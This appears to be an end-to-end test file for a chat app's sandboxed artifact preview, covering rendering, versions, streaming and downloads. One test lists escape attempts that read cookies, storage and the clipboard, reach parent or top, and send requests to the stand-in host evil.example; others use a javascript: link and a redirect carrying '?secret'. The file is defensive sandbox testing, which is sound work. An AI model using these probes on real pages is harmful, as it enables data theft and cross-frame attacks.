// Looks at what a model wrote beside the chat, and holds the frame to having no way out.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { accessible, becomes, journeys, replies, say } from './harness.mjs';

const journey = journeys();
const button = (page, name) => page.getByRole('button', { name, exact: true });
const panel = (page) => page.getByRole('complementary', { name: 'Preview' });
const inside = (page) => page.frameLocator('iframe');
const fence = (language, text) => `Here it is:\n\n\`\`\`${language}\n${text}\n\`\`\`\n`;

journey('a page is shown beside the chat, in each of its versions', async (page) => {
  const html = (word) =>
    `<!doctype html><html><head><title>A: small/page?</title></head><body><h1>${word}</h1>` +
    `<button onclick="this.textContent = 'pressed'">press</button></body></html>`;
  await replies(page, fence('html', html('First')), fence('html', html('Second')));
  await say(page, 'Make a page');
  assert.equal(await page.locator('iframe').count(), 0, 'nothing runs unasked');
  const opener = panel(page).page().locator('article').getByRole('button', { name: 'Preview' });
  await opener.click();
  await inside(page).getByRole('heading', { name: 'First' }).waitFor();
  await inside(page).getByRole('button').click();
  await inside(page).getByText('pressed').waitFor();
  await button(page, 'Start again').click();
  await inside(page).getByText('press', { exact: true }).waitFor();
  await accessible(page, 'artifact');

  await say(page, 'Make it better');
  await inside(page).getByRole('heading', { name: 'Second' }).waitFor();
  await panel(page).getByRole('img', { name: 'Version 2 of 2' }).waitFor();
  await button(page, 'Older version').click();
  await inside(page).getByRole('heading', { name: 'First' }).waitFor();

  await page.getByRole('tab', { name: 'Code' }).click();
  await panel(page).locator('pre').getByText('<h1>First</h1>').waitFor();
  await accessible(page, 'code of an artifact');
  const file = page.waitForEvent('download');
  await panel(page).getByRole('button', { name: 'Download' }).click();
  const kept = await file;
  assert.equal(kept.suggestedFilename(), 'A small page.html');
  assert.equal(await readFile(await kept.path(), 'utf8'), html('First'));
  await button(page, 'Full screen').click();
  const size = async () => {
    const { width, height } = await panel(page).boundingBox();
    return [width, height];
  };
  await becomes(size, [1280, 800]);
  await button(page, 'Leave full screen').click();
  await page.keyboard.press('Escape');
  await panel(page).waitFor({ state: 'detached' });

  await opener.first().click();
  await inside(page).getByRole('button').focus();
  await page.keyboard.press('Escape');
  await panel(page).waitFor({ state: 'detached' });
  await becomes(() => page.evaluate(() => document.activeElement.textContent), 'Preview');
});

journey('on a phone it lies over the chat', async (page) => {
  await page.setViewportSize({ width: 320, height: 640 });
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>Dot</title><circle r="4"/></svg>';
  await replies(page, fence('svg', svg));
  await say(page, 'Draw a dot');
  await page.getByRole('button', { name: 'Preview' }).click();
  await inside(page).locator('circle').waitFor();
  await page.getByRole('heading', { name: 'Dot', exact: true }).waitFor();
  await becomes(async () => (await panel(page).boundingBox()).width, 320);
  await accessible(page, 'artifact on a phone');
});

journey('errors of a page are told, and do no harm', async (page) => {
  await replies(page, fence('html', '<p>still here</p><script>nowhere.at.all()</script>'));
  await say(page, 'Make a broken page');
  await page.getByRole('button', { name: 'Preview' }).click();
  await panel(page).getByText('nowhere is not defined').waitFor();
  await inside(page).getByText('still here').waitFor();
  page.faults.length = 0;
});

journey('diagrams are drawn inside the frame, and only then is Mermaid there', async (page) => {
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  await replies(
    page,
    fence(
      'mermaid',
      'flowchart LR\n  A[Question] --> B[Answer]\n  click B "javascript:parent.fired=1"',
    ),
    fence('mermaid', 'flowchart LR\n  A[ -->'),
  );
  await say(page, 'Draw it');
  assert.ok(!asked.some((url) => url.includes('mermaid')), 'Mermaid waits for the first look');
  await page.getByRole('button', { name: 'Preview' }).click();
  await inside(page).locator('svg').getByText('Question').waitFor({ timeout: 30_000 });
  assert.equal(await inside(page).locator('svg [href^="javascript"]').count(), 0);
  assert.equal(asked.filter((url) => url.includes('mermaid')).length, 2, 'a chunk and the library');
  await button(page, 'Close preview').click();
  await say(page, 'Break it');
  await page.getByRole('button', { name: 'Preview' }).last().click();
  await panel(page)
    .getByText(/Parse error|Syntax error|Lexical error/)
    .waitFor({ timeout: 30_000 });
  await inside(page).locator('pre').getByText('A[ -->').waitFor();
});

journey('while it is written, a page opens on demand and grows in steps', async (page) => {
  const rows = Array.from({ length: 40 }, (_, index) => `<p>row ${index}</p>`).join('\n');
  await page.addInitScript(() => {
    const real = globalThis.fetch;
    globalThis.fetch = async (path, init) => {
      if (!String(path).includes('chat/completions')) return real(path, init);
      const pieces = globalThis.pieces;
      const body = new ReadableStream({
        async start(controller) {
          const send = (value) => controller.enqueue(new TextEncoder().encode(value));
          for (const content of pieces) {
            send(`data: ${JSON.stringify({ choices: [{ delta: { content } }] })}\n\n`);
            await new Promise((resolve) => setTimeout(resolve, 50));
          }
          send('data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n');
          controller.close();
        },
      });
      return new Response(body, { headers: { 'content-type': 'text/event-stream' } });
    };
  });
  await page.reload();
  await page.evaluate((text) => (globalThis.pieces = text.split(/(?=<p>)/)), fence('html', rows));
  let loads = 0;
  page.on('framenavigated', (frame) => frame.url().endsWith('/frame.html') && (loads += 1));
  const started = Date.now();
  await say(page, 'Make rows', { wait: false });
  await page.getByRole('button', { name: 'Preview' }).click();
  await inside(page).getByText('row 39').waitFor();
  // Twice a second at most, as long as it took here; and the first and the last one.
  const most = (Date.now() - started) / 500 + 2;
  assert.ok(loads >= 2 && loads <= most, `${loads} loads of ${most}`);
});

/** Each tries one way out; what it reaches is written into its own page. */
const ESCAPES = {
  'the page around it': 'return parent.document.title || "read"',
  'the chat through top': 'top.fired = 1; return "set"',
  cookies: 'return document.cookie + "read"',
  localStorage: 'return localStorage.length + "read"',
  sessionStorage: 'return sessionStorage.length + "read"',
  indexedDB:
    'await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => no(r.error) }); return "opened"',
  caches: 'await caches.open("x"); return "opened"',
  fetch: 'await fetch("https://evil.example/f"); return "sent"',
  'fetch of its own host': 'await fetch("/v1/models", { mode: "no-cors" }); return "sent"',
  XMLHttpRequest:
    'await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", "https://evil.example/x"); x.onload = ok; x.onerror = () => no(Error("blocked")); x.send() }); return "sent"',
  WebSocket:
    'await new Promise((ok, no) => { const w = new WebSocket("wss://evil.example"); w.onopen = ok; w.onerror = () => no(Error("blocked")) }); return "open"',
  EventSource:
    'await new Promise((ok, no) => { const e = new EventSource("https://evil.example/e"); e.onopen = ok; e.onerror = () => no(Error("blocked")) }); return "open"',
  'a picture':
    'await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(Error("blocked")); i.src = "https://evil.example/i.png" }); return "loaded"',
  'a script from elsewhere':
    'await new Promise((ok, no) => { const s = document.createElement("script"); s.onload = ok; s.onerror = () => no(Error("blocked")); s.src = "https://evil.example/s.js"; document.head.append(s) }); return "loaded"',
  'a stylesheet':
    'await new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = ok; l.onerror = () => no(Error("blocked")); l.href = "https://evil.example/s.css"; document.head.append(l) }); return "loaded"',
  'a worker':
    'await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = ok; w.onerror = () => no(Error("blocked")) }); return "started"',
  'a service worker': 'await navigator.serviceWorker.register("/sw.js"); return "registered"',
  'a popup': 'if (!open("https://evil.example/popup")) throw Error("blocked"); return "opened"',
  'top navigation': 'top.location.href = "https://evil.example/top"; return "sent"',
  'a link to top':
    'const a = document.createElement("a"); a.href = "https://evil.example/a"; a.target = "_top"; document.body.append(a); a.click(); throw Error("nothing came back")',
  'a form':
    'const f = document.createElement("form"); f.action = "https://evil.example/form"; document.body.append(f); f.submit(); throw Error("nothing came back")',
  'a dialog': 'if (confirm("fired") === false) throw Error("blocked"); return "shown"',
  'a beacon': 'navigator.sendBeacon("https://evil.example/b"); throw Error("nothing came back")',
  'an inner frame':
    'const f = document.createElement("iframe"); f.src = "https://evil.example/frame"; document.body.append(f); throw Error("nothing came back")',
  'the clipboard': 'return await navigator.clipboard.readText() + "read"',
};

/** Requests to other hosts that get past the policy: those it blocks never come here. */
async function elsewhere(page) {
  const reached = [];
  await page.context().route(/evil\.example/, (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  return reached;
}

journey('what runs in the frame gets out by no way', async (page) => {
  const reached = await elsewhere(page);
  const dialogs = [];
  page.on('dialog', (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
  page.context().on('page', () => dialogs.push('a popup'));
  const script = Object.entries(ESCAPES)
    .map(([name, code]) => `say(${JSON.stringify(name)}, (async () => { ${code} })())`)
    .join(';\n');
  const page0 = `<!doctype html><ul></ul><script>
    const say = (name, tried) => tried.then((got) => 'GOT ' + got, () => 'blocked').then((text) => {
      const item = document.createElement('li');
      item.textContent = name + ': ' + text;
      document.querySelector('ul').append(item);
    });
    ${script}</script>`;
  const address = page.url();
  await replies(page, fence('html', page0));
  await say(page, 'Try to get out');
  await page.getByRole('button', { name: 'Preview' }).click();
  const items = inside(page).locator('li');
  await items.nth(Object.keys(ESCAPES).length - 1).waitFor();
  const told = await items.allInnerTexts();
  assert.deepEqual(
    told.filter((line) => !line.endsWith(': blocked')),
    [],
  );
  assert.deepEqual(dialogs, []);
  assert.equal(await page.evaluate(() => globalThis.fired), undefined);
  assert.equal(new URL(page.url()).host, new URL(address).host);
  assert.deepEqual(reached, []);
  page.faults.length = 0;
});

journey('the frame cannot go to another host either', async (page) => {
  const reached = await elsewhere(page);
  await replies(page, fence('html', '<script>location = "https://evil.example/?secret"</script>'));
  await say(page, 'Go away');
  await page.getByRole('button', { name: 'Preview' }).click();
  // The browser says that it was kept from going there.
  await becomes(async () => page.faults.some((fault) => fault.includes('evil.example')), true);
  assert.deepEqual(reached, []);
  page.faults.length = 0;
});
